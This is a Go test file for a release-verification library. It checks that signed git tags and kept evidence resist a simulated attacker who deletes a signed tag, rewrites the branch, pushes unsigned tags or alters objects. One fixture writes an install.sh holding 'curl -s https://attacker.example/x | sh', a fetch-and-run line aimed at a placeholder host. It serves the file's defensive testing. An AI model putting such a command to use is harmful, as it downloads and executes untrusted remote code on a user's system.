package release

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tamperguard/tamperguard/internal/signing"
)

// gitAttackerTakesTheTag is what an attacker who can push does to a signed release: delete
// its tag, rewrite main to an unrelated commit, and push unsigned tags in its place (the
// same name and a newer one). With prune, the server's own gc has since dropped what no
// ref reaches.
func gitAttackerTakesTheTag(t *testing.T, r *gitTestRepo, tag string, prune bool) {
	t.Helper()
	r.git("tag", "-d", tag)
	junk := r.commit(map[string][]byte{"install.sh": []byte("#!/bin/sh\ncurl -s https://attacker.example/x | sh\n")})
	orphan := r.git("commit-tree", r.git("rev-parse", junk+"^{tree}"), "-m", "rewritten")
	r.git("update-ref", "refs/heads/main", orphan)
	r.git("tag", "-a", "-m", "Release "+tag, tag, orphan)
	r.git("tag", "-a", "-m", "Release v2.0.0", "v2.0.0", orphan)
	if prune {
		require.NoError(t, os.Remove(filepath.Join(r.dir, "index")), "the index would keep the old blobs")
		r.git("reflog", "expire", "--expire=now", "--all")
		r.git("gc", "-q", "--prune=now")
	}
}

// A restarted instance keeps the floor of a git rule after the attacker deleted the signed
// tag, rewrote the branch and pushed unsigned tags: the floor is verified again from the
// objects kept in the mark, and the release file is still read by its object id while the
// remote keeps it (after a gc it is gone, and the error says so).
func TestGitFloorSurvivesDeletedTag(t *testing.T) {
	for _, where := range []string{"local", "remote"} {
		for _, prune := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/pruned=%v", where, prune), func(t *testing.T) {
				ctx := context.Background()
				root := t.TempDir()
				key, keys := gitSSHSigner(t)
				r := newGitTestRepo(t, root, "project.git")
				r.key = key
				files := gitReleaseFiles(t, "1.1.0", nil)
				r.commit(files)
				r.signedTag("v1.1.0")
				repo := r.dir
				if where == "remote" {
					repo = serveGit(t, root, gitServerOpts{filter: true}).URL + "/project.git"
				}
				src, err := NewGit(repo, "SHA256SUMS", keys)
				require.NoError(t, err)
				marks := &MemoryMarks{}
				rel, err := NewResolver(ResolverOptions{Marks: marks}).Resolve(ctx, src, Latest, time.Time{})
				require.NoError(t, err)
				require.Equal(t, "v1.1.0", rel.Tag)
				m, ok, err := marks.LoadMark(ctx, src.Key())
				require.NoError(t, err)
				require.True(t, ok)
				require.NotNil(t, m.Evidence)
				require.NotNil(t, m.Evidence.Git, "the mark keeps the git objects the release was verified from")

				gitAttackerTakesTheTag(t, r, "v1.1.0", prune)

				// Another instance: its own source (no object cache) and resolver, the same marks.
				fresh, err := NewGit(repo, "SHA256SUMS", keys)
				require.NoError(t, err)
				rel, err = NewResolver(ResolverOptions{Marks: marks}).Resolve(ctx, fresh, Latest, time.Time{})
				require.NoError(t, err, "the floor stands")
				assert.Equal(t, "v1.1.0", rel.Tag)
				require.NotNil(t, rel.Floor)
				assert.True(t, Refused(rel.Floor.Reason), "%v", rel.Floor.Reason)
				assert.False(t, rel.Floor.Transient())
				var skipped []string
				for _, s := range rel.Skipped {
					skipped = append(skipped, s.Tag)
					assert.ErrorIs(t, s.Reason, ErrUnsigned, s.Tag)
				}
				assert.Equal(t, []string{"v2.0.0", "v1.1.0"}, skipped, "the unsigned tags are named")
				e, err := rel.Lookup("install.sh")
				require.NoError(t, err)
				assert.Equal(t, gitSHA256Hex(files["install.sh"]), e.Digest.String())

				body, err := rel.Open(ctx, "install.sh")
				if prune {
					assert.ErrorIs(t, err, ErrNotFound, "the objects are gone from the repository")
					return
				}
				require.NoError(t, err, "the release file is read by its object id")
				got, err := io.ReadAll(body)
				require.NoError(t, body.Close())
				require.NoError(t, err)
				assert.Equal(t, files["install.sh"], got)
			})
		}
	}
}

// gitNestedRelease makes a repository whose checksum file sits two directories deep, tags
// it signed, and returns the source and the release's evidence.
func gitNestedRelease(t *testing.T) (*gitTestRepo, *signing.Keys, *Evidence) {
	t.Helper()
	root := t.TempDir()
	key, keys := gitSSHSigner(t)
	r := newGitTestRepo(t, root, "project.git")
	r.key = key
	files := map[string][]byte{"README": []byte("not on the path\n")}
	for name, b := range gitReleaseFiles(t, "1.0.0", nil) {
		files["dist/v1/"+name] = b
	}
	r.commit(files)
	r.signedTag("v1.0.0")
	r.git("tag", "-a", "-m", "unsigned", "unsigned-1.0.0")
	src, err := NewGit(r.dir, "dist/v1/SHA256SUMS", keys)
	require.NoError(t, err)
	rel, err := src.Fetch(context.Background(), "v1.0.0")
	require.NoError(t, err)
	require.NotNil(t, rel.Evidence)
	require.NotNil(t, rel.Evidence.Git)
	require.Len(t, rel.Evidence.Git.Trees, 3, "root, dist, dist/v1")
	return r, keys, rel.Evidence
}

func cloneEvidence(ev *Evidence) *Evidence {
	c := *ev
	g := *ev.Git
	c.Checksums = bytes.Clone(ev.Checksums)
	g.TagObject, g.Commit = bytes.Clone(g.TagObject), bytes.Clone(g.Commit)
	g.Trees = nil
	for _, tr := range ev.Git.Trees {
		g.Trees = append(g.Trees, bytes.Clone(tr))
	}
	c.Git = &g
	return &c
}

// Verifying kept evidence again needs neither the tag nor the remote: the source below
// points at a server that answers nothing but errors.
func TestGitReverifyNeedsNoRemote(t *testing.T) {
	r, keys, ev := gitNestedRelease(t)
	down := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusBadGateway) }))
	defer down.Close()
	src, err := NewGit(down.URL+"/project.git", "dist/v1/SHA256SUMS", keys)
	require.NoError(t, err)
	rel, err := src.Reverify(context.Background(), cloneEvidence(ev))
	require.NoError(t, err)
	assert.Equal(t, "v1.0.0", rel.Tag)
	assert.Equal(t, "ssh", rel.Signer.Scheme)
	assert.False(t, rel.Time.IsZero(), "the signed tagger time")
	assert.Equal(t, r.git("rev-parse", "v1.0.0"), rel.TagObject)
	_, err = rel.Lookup("install.sh")
	assert.NoError(t, err)
	_, err = rel.Open(context.Background(), "install.sh")
	assert.ErrorIs(t, err, ErrUnreachable, "only the release file needs the remote")
}

// Kept evidence is verified as strictly as a fresh fetch: each object against the id that
// names it, the signature against the keys pinned now, the tag name inside the object.
func TestGitReverifyRefusesAlteredEvidence(t *testing.T) {
	r, keys, ev := gitNestedRelease(t)
	unsigned := r.git("cat-file", "tag", "unsigned-1.0.0")
	r.commit(map[string][]byte{"dist/v1/install.sh": []byte("#!/bin/sh\necho later\n")})
	otherCommit := r.git("cat-file", "commit", "HEAD")
	_, otherKeys := gitSSHSigner(t)
	for _, tc := range []struct {
		name   string
		change func(ev *Evidence)
		keys   *signing.Keys
		want   error
	}{
		{name: "tag message edited", want: signing.ErrRefused, change: func(ev *Evidence) {
			ev.Git.TagObject = bytes.Replace(ev.Git.TagObject, []byte("Release v1.0.0"), []byte("Release v1.0.1"), 1)
		}},
		{name: "kept under another tag name", want: ErrInvalid, change: func(ev *Evidence) { ev.Tag = "v9.9.9" }},
		{name: "unsigned tag object", want: ErrUnsigned, change: func(ev *Evidence) {
			ev.Tag = "unsigned-1.0.0"
			ev.Git.TagObject = []byte(unsigned + "\n")
		}},
		{name: "other keys pinned now", keys: otherKeys, want: signing.ErrRefused, change: func(*Evidence) {}},
		{name: "commit swapped", want: ErrGitIntegrity, change: func(ev *Evidence) { ev.Git.Commit = []byte(otherCommit + "\n") }},
		{name: "commit edited", want: ErrGitIntegrity, change: func(ev *Evidence) { ev.Git.Commit[len(ev.Git.Commit)-2] ^= 1 }},
		{name: "root tree edited", want: ErrGitIntegrity, change: func(ev *Evidence) { ev.Git.Trees[0][len(ev.Git.Trees[0])-1] ^= 1 }},
		{name: "inner tree edited", want: ErrGitIntegrity, change: func(ev *Evidence) { ev.Git.Trees[2][len(ev.Git.Trees[2])-1] ^= 1 }},
		{name: "trees reordered", want: ErrGitIntegrity, change: func(ev *Evidence) {
			ev.Git.Trees[1], ev.Git.Trees[2] = ev.Git.Trees[2], ev.Git.Trees[1]
		}},
		{name: "a tree missing", want: ErrInvalid, change: func(ev *Evidence) { ev.Git.Trees = ev.Git.Trees[:2] }},
		{name: "checksum file edited", want: ErrGitIntegrity, change: func(ev *Evidence) { ev.Checksums[0] ^= 1 }},
		{name: "no git objects", want: ErrInvalid, change: func(ev *Evidence) { ev.Git = nil }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			src, err := NewGit(r.dir, "dist/v1/SHA256SUMS", keys)
			require.NoError(t, err)
			_, err = src.Reverify(context.Background(), cloneEvidence(ev))
			require.NoError(t, err, "the kept evidence verifies as it is")

			changed := cloneEvidence(ev)
			tc.change(changed)
			k := keys
			if tc.keys != nil {
				k = tc.keys
			}
			src, err = NewGit(r.dir, "dist/v1/SHA256SUMS", k)
			require.NoError(t, err)
			rel, err := src.Reverify(context.Background(), changed)
			assert.Nil(t, rel)
			assert.ErrorIs(t, err, tc.want)
			if err != nil {
				assert.Contains(t, err.Error(), "kept release")
			}
		})
	}
}

// A release whose objects are over the evidence bound keeps none (the mark record must stay
// readable); below it, the evidence is the objects as fetched.
func TestGitEvidenceBounded(t *testing.T) {
	ctx := context.Background()
	src, err := NewGit(fixture(t, "git", "uploader.git"), "SHA256SUMS", maintainerKeys(t))
	require.NoError(t, err)
	src.lim.evidence = 1000
	rel, err := src.Fetch(ctx, "v1.2.0")
	require.NoError(t, err)
	assert.Nil(t, rel.Evidence)

	src, err = NewGit(fixture(t, "git", "uploader.git"), "SHA256SUMS", maintainerKeys(t))
	require.NoError(t, err)
	rel, err = src.Fetch(ctx, "v1.2.0")
	require.NoError(t, err)
	require.NotNil(t, rel.Evidence)
	require.NotNil(t, rel.Evidence.Git)
	assert.Equal(t, "v1.2.0", rel.Evidence.Tag)
	assert.Empty(t, rel.Evidence.Signature, "the signature is inside the tag object")
	id, _ := hashObject(objTag, rel.Evidence.Git.TagObject)
	assert.Equal(t, rel.TagObject, id.String())
	e, err := rel.Lookup("install.sh")
	require.NoError(t, err)
	assert.Contains(t, string(rel.Evidence.Checksums), e.Digest.String())
}

// A rule that follows some tags reports the refused tags it follows, and only those.
func TestGitFilteredReportsRefusedTagsItFollows(t *testing.T) {
	ctx := context.Background()
	dir := copyRepo(t)
	runGit(t, dir, "tag", "-a", "-m", "not ours", "v9.9.9", "main")
	f, err := NewTagFilter("v1.*", false)
	require.NoError(t, err)
	git, err := NewGit(dir, "SHA256SUMS", maintainerKeys(t))
	require.NoError(t, err)
	src := Filtered(git, f)

	_, refused, err := src.ListCandidates(ctx)
	require.NoError(t, err)
	var tags []string
	for _, s := range refused {
		tags = append(tags, s.Tag)
	}
	assert.Equal(t, []string{"v1.5.0", "v1.4.0", "v1.3.0"}, tags)

	rel, err := NewResolver(ResolverOptions{}).Resolve(ctx, src, Latest, time.Time{})
	require.NoError(t, err)
	assert.Equal(t, "v1.2.0", rel.Tag)
	tags = nil
	for _, s := range rel.Skipped {
		tags = append(tags, s.Tag)
	}
	assert.Equal(t, []string{"v1.5.0", "v1.4.0", "v1.3.0"}, tags)
}

// Forty unsigned tags pushed over a deleted signed one: the floor's reason and Skipped
// name every one, and the reason's message stays bounded. A refused tag older than the
// floor is not among them: it could not have been the answer.
func TestGitFloorReportsEveryRefusedTag(t *testing.T) {
	ctx := context.Background()
	dir := copyRepo(t)
	src, err := NewGit(dir, "SHA256SUMS", maintainerKeys(t))
	require.NoError(t, err)
	marks := &MemoryMarks{}
	_, err = NewResolver(ResolverOptions{Marks: marks}).Resolve(ctx, src, Latest, time.Time{})
	require.NoError(t, err)
	runGit(t, dir, "tag", "-d", "v1.2.0")
	for i := range 40 {
		runGit(t, dir, "tag", "-a", "-m", "junk", fmt.Sprintf("v2.0.%d", i), "main")
	}
	runGit(t, dir, "tag", "-a", "-m", "junk", "v1.1.5", "main")
	fresh, err := NewGit(dir, "SHA256SUMS", maintainerKeys(t))
	require.NoError(t, err)
	rel, err := NewResolver(ResolverOptions{Marks: marks}).Resolve(ctx, fresh, Latest, time.Time{})
	require.NoError(t, err)
	assert.Equal(t, "v1.2.0", rel.Tag)
	require.NotNil(t, rel.Floor)
	assert.ErrorIs(t, rel.Floor.Reason, ErrRollback, "what is left verified is older than the floor")
	assert.Len(t, rel.Skipped, 43, "the 40 pushed, v1.5.0, v1.4.0 and v1.3.0")
	for _, s := range rel.Skipped {
		assert.NotEqual(t, "v1.1.5", s.Tag, "older than the floor")
	}
	var rb *RollbackError
	require.ErrorAs(t, rel.Floor.Reason, &rb)
	assert.Len(t, rb.Skipped, 43)
	assert.Contains(t, rel.Floor.Reason.Error(), "and 38 more")
	assert.Contains(t, rel.Floor.Reason.Error(), "the newest v1.1.0", "the newest older tag that is not refused")
	assert.Less(t, len(rel.Floor.Reason.Error()), 2000)
}

// Tags that are not versions are ordered by their signed tagger time; a refused tag has no
// time to be placed by, yet when the floor stands in, every refused tag is still named.
func TestGitFloorReportsRefusedTagsWithoutVersions(t *testing.T) {
	ctx := context.Background()
	key, keys := gitSSHSigner(t)
	r := newGitTestRepo(t, t.TempDir(), "project.git")
	r.key = key
	r.commit(gitReleaseFiles(t, "50", nil))
	r.signedTagAt("build-050", "2025-01-01T12:00:00Z")
	r.commit(gitReleaseFiles(t, "100", nil))
	r.signedTagAt("build-100", "2025-06-01T12:00:00Z")
	src, err := NewGit(r.dir, "SHA256SUMS", keys)
	require.NoError(t, err)
	marks := &MemoryMarks{}
	rel, err := NewResolver(ResolverOptions{Marks: marks}).Resolve(ctx, src, Latest, time.Time{})
	require.NoError(t, err)
	require.Equal(t, "build-100", rel.Tag)

	r.git("tag", "-d", "build-100")
	r.git("tag", "-a", "-m", "junk", "build-200")
	r.git("tag", "build-300")
	fresh, err := NewGit(r.dir, "SHA256SUMS", keys)
	require.NoError(t, err)
	rel, err = NewResolver(ResolverOptions{Marks: marks}).Resolve(ctx, fresh, Latest, time.Time{})
	require.NoError(t, err)
	assert.Equal(t, "build-100", rel.Tag)
	require.NotNil(t, rel.Floor)
	reasons := map[string]error{}
	for _, s := range rel.Skipped {
		reasons[s.Tag] = s.Reason
	}
	assert.ErrorIs(t, reasons["build-050"], ErrRollback, "older by its signed time")
	assert.ErrorIs(t, reasons["build-200"], ErrUnsigned)
	assert.ErrorIs(t, reasons["build-300"], ErrUnsigned)
	assert.Len(t, reasons, 3)
}
